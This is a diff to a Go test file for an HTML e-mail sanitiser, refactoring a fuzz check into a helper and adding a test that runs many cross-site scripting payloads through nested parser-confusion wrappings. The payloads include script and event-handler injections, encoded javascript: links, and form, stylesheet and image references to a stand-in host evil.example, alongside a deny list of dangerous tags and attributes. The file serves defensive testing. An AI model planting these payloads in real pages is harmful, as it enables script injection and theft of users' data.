@@ -8,6 +8,7 @@ import (
 	"testing"
 	"unicode/utf8"
 
+	"github.com/microcosm-cc/bluemonday"
 	"golang.org/x/net/html"
 
 	"liaison/internal/id"
@@ -116,28 +117,61 @@ func FuzzSanitise(f *testing.F) {
 	}
 	policy := mailPolicy() // making one costs more than using it
 	f.Fuzz(func(t *testing.T, s string) {
-		out := sanitise(policy, s)
-		if again := sanitise(policy, out); again != out {
-			t.Fatalf("%q, then %q", out, again)
-		}
-		doc, err := html.Parse(strings.NewReader(out))
-		if err != nil {
-			t.Fatal(err)
-		}
-		for n := range doc.Descendants() {
-			if n.Type == html.ElementNode && strings.Contains(" script style iframe object embed form input link meta base svg math template ", " "+n.Data+" ") {
-				t.Errorf("%q holds a %s", out, n.Data)
-			}
-			for _, a := range n.Attr {
-				value := strings.ToLower(strings.TrimSpace(a.Val))
-				switch {
-				case strings.HasPrefix(a.Key, "on"), a.Key == "style" && strings.Contains(value, "url"),
-					a.Key == "src" && !strings.HasPrefix(value, "cid:"), a.Key == "href" && (strings.HasPrefix(value, "javascript:") || strings.HasPrefix(value, "data:") || strings.HasPrefix(value, "cid:")):
-					t.Errorf("%q holds %s=%q", out, a.Key, a.Val)
-				}
-			}
-		}
+		inert(t, policy, s)
 	})
+}
+
+// inert checks what the sanitiser promises of a text: what it gives it gives again, and nothing in it runs, loads or leaves.
+func inert(t *testing.T, policy *bluemonday.Policy, s string) {
+	t.Helper()
+	out := sanitise(policy, s)
+	if again := sanitise(policy, out); again != out {
+		t.Fatalf("%q, then %q", out, again)
+	}
+	doc, err := html.Parse(strings.NewReader(out))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for n := range doc.Descendants() {
+		if n.Type == html.ElementNode && strings.Contains(" script style iframe object embed form input link meta base svg math template ", " "+n.Data+" ") {
+			t.Errorf("%q holds a %s", out, n.Data)
+		}
+		for _, a := range n.Attr {
+			value := strings.ToLower(strings.TrimSpace(a.Val))
+			switch {
+			case strings.HasPrefix(a.Key, "on"), a.Key == "style" && strings.Contains(value, "url"),
+				a.Key == "src" && !strings.HasPrefix(value, "cid:"), a.Key == "href" && (strings.HasPrefix(value, "javascript:") || strings.HasPrefix(value, "data:") || strings.HasPrefix(value, "cid:")):
+				t.Errorf("%q holds %s=%q", out, a.Key, a.Val)
+			}
+		}
+	}
+}
+
+// Security H02: text that is read in one way by the allow-list and in another by a browser, in every place where the two
+// differ: each payload in each wrapping, and each wrapping within each other.
+func TestHostileMarkupIsInertInEveryPlace(t *testing.T) {
+	t.Parallel()
+	payloads := []string{`<img src=x onerror=alert(1)>`, `<script>alert(1)</script>`, `<svg/onload=alert(1)>`, `<a href="javascript:alert(1)">x</a>`, `<a href="java&#10;script:alert(1)">x</a>`,
+		`<a href="&#x6a;avascript:alert(1)">x</a>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<form action=//evil.example><input name=p></form>`, `<link rel=stylesheet href=//evil.example>`,
+		`<meta http-equiv=refresh content="0;url=//evil.example">`, `<base href=//evil.example>`, `<img srcset="//evil.example 1x">`, `<p style="background:url(//evil.example)">x</p>`,
+		`<p style="color:red;position:fixed">x</p>`, `<object data=//evil.example></object>`, `<embed src=//evil.example>`, `<video poster=//evil.example><source src=//evil.example></video>`,
+		`<math><mi xlink:href="javascript:alert(1)">x</mi></math>`, `<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<image xlink:href=//evil.example>`,
+		`<style>@import "//evil.example";</style>`, `<input autofocus onfocus=alert(1)>`, `<details open ontoggle=alert(1)>x</details>`, `<isindex action=javascript:alert(1)>`, "<a\x00href=javascript:alert(1)>x</a>"}
+	wrappings := []string{"%s", `<noscript><p title="</noscript>%s">`, `<title>&lt;/title&gt;%s</title>`, `<textarea></textarea>%s`, `<style><!--</style>%s-->`, `<!--><p>%s--><p>`, `<!--x--!>%s`,
+		`<![CDATA[%s]]>`, `<math><mtext><table><mglyph><style>%s</style>`, `<svg><desc>%s</desc></svg>`, `<svg><style>%s</style></svg>`, `<select><template>%s</template></select>`, `<table><td>%s<table>`,
+		`<template>%s</template>`, `<xmp>%s</xmp>`, `<plaintext>%s`, `<p title="%s">x</p>`, `<p title='%s'>x</p>`, `&lt;p&gt;%s&amp;lt;`, `<form><math><mtext></form><form><mglyph><style></math>%s`}
+	policy, tried := mailPolicy(), 0
+	for _, payload := range payloads {
+		for _, outer := range wrappings {
+			for _, inner := range wrappings {
+				tried++
+				inert(t, policy, strings.Replace(outer, "%s", strings.Replace(inner, "%s", payload, 1), 1))
+			}
+		}
+	}
+	if tried < 300 {
+		t.Errorf("only %d texts", tried)
+	}
 }
 
 // FuzzTokens: only what we signed leads to a case.
